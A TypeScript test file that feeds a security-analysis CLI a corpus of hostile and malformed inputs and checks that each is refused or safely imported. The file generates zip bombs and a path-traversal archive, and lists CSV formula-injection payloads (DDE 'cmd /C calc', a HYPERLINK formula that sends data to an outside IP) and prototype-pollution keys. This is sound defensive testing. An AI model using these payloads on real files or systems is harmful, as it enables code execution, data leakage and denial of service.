// The hostile corpus (test/fixtures/bad/README.md) through the built CLI, as a user would hit it: a file that cannot be
// analysed gives one `error:` line naming the file and the problem (and the line, where there is one), one `hint:`
// line, exit code 1 and no stack trace, in bounded time; the awkward but valid files import, and the test checks what
// they import as. The same files then go through the profiler and the import components in this process, which must
// refuse them with an InputFileError (never another error) and leave Object.prototype alone.
import { execFile } from 'node:child_process';
import { createWriteStream, existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { once } from 'node:events';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvImport } from '../../src/components/import/csv.js';
import { excelImport } from '../../src/components/import/excel.js';
import { jsonImport } from '../../src/components/import/json.js';
import { InputFileError } from '../../src/model/errors/input-file-error.js';
import { profileFile } from '../../src/planner/profile-file.js';
import { ComponentHarness, datasetOf } from '../helpers/component-harness.js';
import { repeatedPart, workbookParts, zipArchive } from '../helpers/zip-writer.js';
import { CLI_PATH } from '../helpers/run-cli.js';

const root = resolve(import.meta.dirname, '..', '..');
const cli = CLI_PATH;
const BAD = join(root, 'test', 'fixtures', 'bad');
/** Past this the CLI counts as hung: it is killed and the test fails. */
const TIME_BOUND_MS = 60_000;

interface CliResult {
  /** Null when the process was killed (the time bound passed). */
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
  readonly ms: number;
}

function analyse(file: string, work: string): Promise<CliResult> {
  const started = performance.now();
  const args = [cli, 'dynamic-workflow', 'Analyze this file for threats', '--input-files', file, '--output-dir', join(work, 'out'), '--execute', '--log-dir', join(work, 'logs')];
  return new Promise((resolvePromise) => {
    execFile(process.execPath, args, { cwd: work, timeout: TIME_BOUND_MS, maxBuffer: 16 * 1024 * 1024, env: { ...process.env, NO_COLOR: '1' } }, (error, stdout, stderr) => {
      const code = error === null ? 0 : typeof error.code === 'number' ? error.code : null;
      resolvePromise({ code, stdout, stderr, ms: performance.now() - started });
    });
  });
}

interface Refusal {
  readonly file: string;
  /** What the error line says after `<path>[:line]: ` (a step's failure may put its name before the path). */
  readonly problem: RegExp;
  readonly line?: number;
  readonly hint?: RegExp;
}

const COMMITTED_REFUSALS: readonly Refusal[] = [
  { file: 'empty.csv', problem: /^the file is empty$/ },
  { file: 'blank-lines.csv', problem: /^no data lines \(only blank or comment lines\)$/ },
  { file: 'bom-only.csv', problem: /^no data lines \(only blank or comment lines\)$/ },
  { file: 'banner-only.csv', problem: /^no data lines \(only blank or comment lines\)$/ },
  { file: 'header-only.csv', problem: /^no data rows after the header$/ },
  { file: 'unterminated-quote.csv', line: 5, problem: /^quoted field unterminated$/i },
  { file: 'nul-in-middle.csv', problem: /^binary content \(NUL bytes\) where text was expected \(a NUL byte on line 6\)$/ },
  { file: 'random-binary.csv', problem: /^binary content \(NUL bytes\) where text was expected$/ },
  { file: 'png-image.csv', problem: /^a PNG image \(binary content\) where text was expected$/ },
  { file: 'html-error-page.csv', line: 1, problem: /^an HTML page where CSV or JSON was expected$/, hint: /error page/ },
  { file: 'lone-surrogate-utf16.csv', line: 3, problem: /^text is not valid utf-16le$/ },
  { file: 'lone-surrogate.json', line: 1, problem: /^not valid JSON: no low surrogate in string \(byte \d+ of record 2\)$/ },
  { file: 'truncated-array.json', line: 4, problem: /^not valid JSON: unexpected end of data \(byte \d+ of record 3\)$/ },
  { file: 'truncated-lines.jsonl', line: 3, problem: /^not valid JSON: unexpected end of data/ },
  { file: 'garbage-line.jsonl', line: 3, problem: /^not valid JSON: invalid literal/ },
  { file: 'deep-nesting.json', line: 1, problem: /^JSON nested deeper than 256 levels$/ },
  { file: 'numbers-array.json', problem: /^no complete JSON object in the first part of the file$/ },
];

/** Made by the test in a temporary folder: too big, or too binary, to commit. */
const GENERATED_REFUSALS: readonly Refusal[] = [
  { file: 'huge-field.csv', line: 2, problem: /^a line of 104,857,6\d\d bytes, over the limit of 2,097,152 bytes$/ },
  { file: 'wide-header.csv', line: 1, problem: /^the first line is longer than 256 KB \([\d,]+ fields or more\): too long to be a table CS Helper can read$/ },
  { file: 'many-columns.csv', line: 1, problem: /^12,000 columns, over the limit of 10,000$/ },
  { file: 'zip-bomb.xlsx', problem: /^the workbook inflates to more than 1073741824 bytes \(xl\/worksheets\/sheet1\.xml alone is 1073741974\): refused as a possible zip bomb$/ },
  { file: 'zip-bomb-lying.xlsx', problem: /^xl\/worksheets\/sheet1\.xml is damaged: it inflates to too many bytes, past the 1,048,576 its zip entry declares: stopped there as a possible zip bomb$/, hint: /lies about its sizes/ },
  { file: 'zip-bomb.zip', problem: /^flows\.csv inflates to more than 1,073,741,824 bytes from a [\d,]+-byte archive: refused as a possible decompression bomb$/, hint: /extract it yourself/ },
  { file: 'zip-bomb-lying.zip', problem: /^flows\.csv inflates past the 1,048,576 bytes the archive declares: stopped there as a possible zip bomb$/ },
  { file: 'several-files.zip', problem: /^the ZIP archive holds 2 files \(monday\.csv, tuesday\.csv\); CS Helper reads an archive holding one$/, hint: /extract it/ },
  { file: 'path-escape.zip', problem: /^the ZIP archive names an entry '\.\.\/\.\.\/escaped\.csv', outside the archive: refused$/ },
];

const SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const SHEET_TAIL = '</sheetData></worksheet>';
/** A row, then blanks up to 256 KB: a mebibyte of these deflates to about a kilobyte, as a bomb's parts do. */
const BOMB_UNIT = (() => {
  const row = '<row><c t="inlineStr"><is><t>payload</t></is></c></row>';
  return (row + ' '.repeat(256 * 1024 - row.length)).repeat(4);
})();

async function generate(folder: string): Promise<void> {
  const names = (count: number): string => Array.from({ length: count }, (_, i) => `c${String(i)}`).join(',');
  await writeFile(join(folder, 'wide-header.csv'), `${names(100_000)}\n${'1,'.repeat(99_999)}1\n`);
  await writeFile(join(folder, 'many-columns.csv'), `${names(12_000)}\n${'1,'.repeat(11_999)}1\n`);
  // 1 GiB of sheet XML from about 1 MB of package, deflated unit by unit: the bomb itself is never held inflated.
  const bomb = repeatedPart(SHEET_HEAD, BOMB_UNIT, 1024, SHEET_TAIL);
  await writeFile(join(folder, 'zip-bomb.xlsx'), zipArchive(workbookParts(bomb)));
  // The same gigabyte behind a central directory that claims 1 MiB: the bound check passes, the stream must not.
  await writeFile(join(folder, 'zip-bomb-lying.xlsx'), zipArchive(workbookParts(bomb, { sheetPart: { declaredSize: 1024 * 1024 } })));
  // The same gigabyte as a CSV in a plain ZIP archive, honest and lying about its size.
  // A row, then blank lines to 256 KB, four times: each mebibyte deflates to about a kilobyte, past any real log's ratio.
  const row = '2026-03-02T08:01:00Z,10.0.0.1\n';
  const csvBomb = repeatedPart('timestamp,src_ip\n', (row + '\n'.repeat(256 * 1024 - row.length)).repeat(4), 1100, '');
  await writeFile(join(folder, 'zip-bomb.zip'), zipArchive([{ name: 'flows.csv', data: csvBomb }]));
  await writeFile(join(folder, 'zip-bomb-lying.zip'), zipArchive([{ name: 'flows.csv', data: csvBomb, declaredSize: 1024 * 1024 }]));
  const day = (n: number): string => `timestamp,src_ip\n2026-03-0${String(n)}T08:01:00Z,10.0.0.${String(n)}\n`;
  await writeFile(join(folder, 'several-files.zip'), zipArchive([{ name: 'monday.csv', data: day(2) }, { name: 'tuesday.csv', data: day(3) }]));
  await writeFile(join(folder, 'path-escape.zip'), zipArchive([{ name: '../../escaped.csv', data: day(4) }]));
  const out = createWriteStream(join(folder, 'huge-field.csv'));
  out.write('id,payload\n1,');
  const megabyte = Buffer.alloc(1024 * 1024, 'A');
  for (let i = 0; i < 100; i += 1) {
    if (!out.write(megabyte)) await once(out, 'drain');
  }
  out.end('\n');
  await once(out, 'finish');
}

let work: string;
let generated: string;
let runs = 0;

async function run(file: string): Promise<CliResult & { readonly dir: string }> {
  runs += 1;
  const dir = join(work, `run-${String(runs)}`);
  await mkdir(dir);
  const result = await analyse(file, dir);
  return { ...result, dir };
}

/** The lines of stderr that start with `prefix`. */
function linesStarting(stderr: string, prefix: string): string[] {
  return stderr.split('\n').filter((l) => l.startsWith(prefix));
}

beforeAll(async () => {
  if (!existsSync(cli)) throw new Error('dist/bundle/cs-helper.js is missing: `npm test` builds it before the tests run');
  work = await mkdtemp(join(tmpdir(), 'cs-helper-bad-'));
  generated = await mkdtemp(join(tmpdir(), 'cs-helper-bad-generated-'));
  await generate(generated);
}, 120_000);

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
  await rm(generated, { recursive: true, force: true });
});

describe('the corpus', () => {
  it('holds at least 25 committed files, each listed in its README with an outcome', async () => {
    const files = (await readdir(BAD)).filter((f) => f !== 'README.md' && f !== 'SOURCE.md');
    expect(files.length).toBeGreaterThanOrEqual(25);
    const readme = await readFile(join(BAD, 'README.md'), 'utf8');
    const listed = [...readme.matchAll(/^\| `([^`]+)` \|/gm)].map((m) => m[1]);
    expect(listed.filter((f) => files.includes(f ?? '')).sort()).toEqual([...files].sort());
    // The README lists the generated files too, and nothing else.
    expect(listed.filter((f) => !files.includes(f ?? '')).sort()).toEqual(GENERATED_REFUSALS.map((r) => r.file).sort());
    // Every committed file is either refused or checked as valid below.
    expect([...COMMITTED_REFUSALS.map((r) => r.file), ...VALID_FILES].sort()).toEqual([...files].sort());
  });
});

describe.each([
  ...COMMITTED_REFUSALS.map((r) => ({ ...r, path: join(BAD, r.file) })),
  ...GENERATED_REFUSALS.map((r) => ({ ...r, get path() { return join(generated, r.file); } })),
])('cs-helper refuses $file', (refusal) => {
  it('with one error line naming the file, the problem and the line, one hint, exit code 1, no stack trace', async () => {
    const result = await run(refusal.path);
    expect(result.ms).toBeLessThan(TIME_BOUND_MS);
    // stderr as the message: a failure then shows what the user would have seen.
    expect(result.code, result.stderr).toBe(1);
    const errors = linesStarting(result.stderr, 'error: ');
    expect(errors, result.stderr).toHaveLength(1);
    const where = refusal.line === undefined ? `${refusal.path}: ` : `${refusal.path}:${String(refusal.line)}: `;
    const error = errors[0] ?? '';
    expect(error).toContain(where);
    expect(error.slice(error.indexOf(where) + where.length)).toMatch(refusal.problem);
    // Only a step's name may come before the file ("step 'import' (import.csv) failed: ").
    expect(error.slice(0, error.indexOf(where))).toMatch(/^error: (step '[\w-]+' \([\w.]+\) failed: )?$/);
    const hints = linesStarting(result.stderr, 'hint: ');
    expect(hints).toHaveLength(1);
    if (refusal.hint !== undefined) expect(hints[0]).toMatch(refusal.hint);
    expect(result.stderr).not.toMatch(/^\s+at /m);
    expect(result.stdout).not.toMatch(/^\s+at /m);
    expect(existsSync(join(result.dir, 'out', 'enriched_data.csv'))).toBe(false);
  });
});

const VALID_FILES = ['truncated-row.csv', 'ragged-many.csv', 'crlf-lf-mixed.csv', 'only-delimiters.csv', 'duplicate-columns.csv', 'formula-payload.csv', 'mixed-encodings.csv', 'proto-keys.json', 'gzipped-export.csv'];
const ANALYSIS_COLUMNS = ['threat_score', 'threat_level', 'ioc_matches', 'anomaly_reasons'];
const FLOW_COLUMNS = ['timestamp', 'src_ip', 'dst_ip', 'dst_port', 'action', 'bytes_sent'];

interface Imported {
  readonly result: CliResult;
  readonly columns: string[];
  readonly rows: Record<string, string>[];
  /** The import step's progress line. */
  readonly importLine: string;
}

async function imported(file: string): Promise<Imported> {
  const result = await run(join(BAD, file));
  expect(result.stderr).not.toMatch(/^\s+at /m);
  expect(linesStarting(result.stderr, 'error: ')).toEqual([]);
  expect(result.code, result.stderr).toBe(0);
  const parsed = Papa.parse<Record<string, string>>(await readFile(join(result.dir, 'out', 'enriched_data.csv'), 'utf8'), { header: true, skipEmptyLines: true });
  const importLine = result.stderr.split('\n').find((l) => / \[1\/\d+\] import /.test(l)) ?? '';
  return { result, columns: parsed.meta.fields ?? [], rows: parsed.data, importLine };
}

describe('cs-helper imports the awkward but valid files', () => {
  it('truncated-row.csv: 8 rows, the cut row on line 10 set aside and named', async () => {
    const { columns, rows, importLine } = await imported('truncated-row.csv');
    expect(rows).toHaveLength(8);
    expect(columns.slice(0, 6)).toEqual(FLOW_COLUMNS);
    expect(rows.map((r) => r['bytes_sent'])).toEqual(['101', '102', '103', '104', '105', '106', '107', '108']);
    expect(importLine).toContain('8 rows, 6 columns');
    expect(importLine).toContain('1 ragged rows set aside (line 10)');
  });

  it('ragged-many.csv: 16 rows, the 8 short rows set aside with their lines', async () => {
    const { columns, rows, importLine } = await imported('ragged-many.csv');
    expect(rows).toHaveLength(16);
    expect(columns.slice(0, 6)).toEqual(FLOW_COLUMNS);
    expect(rows.every((r) => r['action'] === 'allow')).toBe(true);
    expect(importLine).toContain('8 ragged rows set aside (lines 2, 5, 8, 11, 14, 17, 20, 23)');
  });

  it('crlf-lf-mixed.csv: 8 rows, line ends normalised (no carriage return left in a value)', async () => {
    const { columns, rows, importLine } = await imported('crlf-lf-mixed.csv');
    expect(rows).toHaveLength(8);
    expect(columns.slice(0, 6)).toEqual(FLOW_COLUMNS);
    expect(rows.map((r) => r['bytes_sent'])).toEqual(['101', '102', '103', '104', '105', '106', '107', '108']);
    expect(rows.some((r) => Object.values(r).some((v) => v.includes('\r')))).toBe(false);
    expect(importLine).toContain('CRLF and LF line ends');
  });

  it('gzipped-export.csv: 8 rows, read from inside the gzip stream its bytes show', async () => {
    const { columns, rows, importLine } = await imported('gzipped-export.csv');
    expect(rows).toHaveLength(8);
    expect(columns.slice(0, 6)).toEqual(FLOW_COLUMNS);
    expect(rows.map((r) => r['bytes_sent'])).toEqual(['101', '102', '103', '104', '105', '106', '107', '108']);
    expect(importLine).toContain('inflated from gzipped-export.csv');
  });

  it('only-delimiters.csv: 3 rows of 6 empty columns', async () => {
    const { columns, rows } = await imported('only-delimiters.csv');
    const data = columns.filter((c) => !ANALYSIS_COLUMNS.includes(c));
    expect(data).toHaveLength(6);
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => data.every((c) => r[c] === ''))).toBe(true);
  });

  it('duplicate-columns.csv: the header read as names, repeated ones told apart as the engine names them', async () => {
    const { columns, rows } = await imported('duplicate-columns.csv');
    expect(columns.slice(0, 4)).toEqual(['src_ip', 'src_ip_1', 'SRC_IP_2', 'dst_port']);
    expect(rows.map((r) => [r['src_ip'], r['src_ip_1'], r['SRC_IP_2'], r['dst_port']])).toEqual([
      ['10.20.10.1', '10.20.10.2', '10.20.10.3', '443'],
      ['10.20.10.4', '10.20.10.5', '10.20.10.6', '80'],
    ]);
  });

  it('formula-payload.csv: 4 rows, and the exported CSV neutralises every formula cell with a leading quote', async () => {
    const { rows } = await imported('formula-payload.csv');
    expect(rows).toHaveLength(4);
    expect(rows.map((r) => r['user'])).toEqual(["'=cmd|' /C calc'!A0", "'+1+1", "'-2+3", 'kira.rossi']);
    expect(rows.map((r) => r['note'])).toEqual(['\'=HYPERLINK("http://203.0.113.66/x?"&A1;"click")', "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "'\t=1+2"]);
    // Numbers stay numbers: only text is neutralised.
    expect(rows.map((r) => r['bytes_sent'])).toEqual(['100', '200', '300', '400']);
  });

  it('mixed-encodings.csv: 3 rows, line 3 read as Windows-1252 and named', async () => {
    const { rows, importLine } = await imported('mixed-encodings.csv');
    expect(rows.map((r) => r['user'])).toEqual(['jos\u00e9', 'in\u00e9s', 'zo\u00eb']);
    expect(importLine).toContain('1 line not UTF-8, read as Windows-1252 (line 3)');
  });

  it('proto-keys.json: __proto__ and constructor.prototype become plain columns', async () => {
    const { columns, rows } = await imported('proto-keys.json');
    expect(columns.slice(0, 3)).toEqual(['user', '__proto__.isAdmin', 'constructor.prototype.polluted']);
    expect(rows.map((r) => [r['user'], r['__proto__.isAdmin'], r['constructor.prototype.polluted']])).toEqual([
      ['svc_webapp', 'true', 'yes'],
      ['kira.rossi', 'false', 'no'],
    ]);
  });
});

describe('the profiler and the import components on every file, in this process', () => {
  let harness: ComponentHarness;
  beforeAll(async () => {
    harness = await ComponentHarness.open({ baseDir: BAD });
  });
  afterAll(async () => {
    await harness.close();
  });

  /** Profiles the file, then imports it with the component its kind calls for: a refusal must be an InputFileError. */
  async function outcome(path: string): Promise<{ rows: number } | InputFileError> {
    try {
      const profile = await profileFile(path);
      const output =
        profile.kind === 'xlsx'
          ? await harness.run(excelImport, {}, { paths: [path] })
          : profile.kind === 'json' || profile.kind === 'jsonl'
            ? await harness.run(jsonImport, {}, { paths: [path] })
            : await harness.run(csvImport, {}, { paths: [path], header: profile.has_header });
      return { rows: datasetOf(output).rowCount };
    } catch (error) {
      if (error instanceof InputFileError) return error;
      throw error;
    }
  }

  it('refuses each refused file with an InputFileError naming it, imports each valid one, pollutes nothing', async () => {
    const refused = [...COMMITTED_REFUSALS.map((r) => join(BAD, r.file)), ...GENERATED_REFUSALS.map((r) => join(generated, r.file))];
    for (const path of refused) {
      const result = await outcome(path);
      expect(result, path).toBeInstanceOf(InputFileError);
      expect((result as InputFileError).file).toBe(path);
    }
    const rows = Object.create(null) as Record<string, number>;
    for (const file of VALID_FILES) {
      const result = await outcome(join(BAD, file));
      if (result instanceof InputFileError) throw new Error(`${file} was refused: ${result.message}`);
      rows[file] = result.rows;
    }
    expect({ ...rows }).toEqual({
      'truncated-row.csv': 8,
      'ragged-many.csv': 16,
      'crlf-lf-mixed.csv': 8,
      'only-delimiters.csv': 3,
      'duplicate-columns.csv': 2,
      'formula-payload.csv': 4,
      'mixed-encodings.csv': 3,
      'proto-keys.json': 2,
      'gzipped-export.csv': 8,
    });
    const probe: Record<string, unknown> = {};
    expect(probe['isAdmin']).toBeUndefined();
    expect(probe['polluted']).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('isAdmin');
  }, 180_000);
});
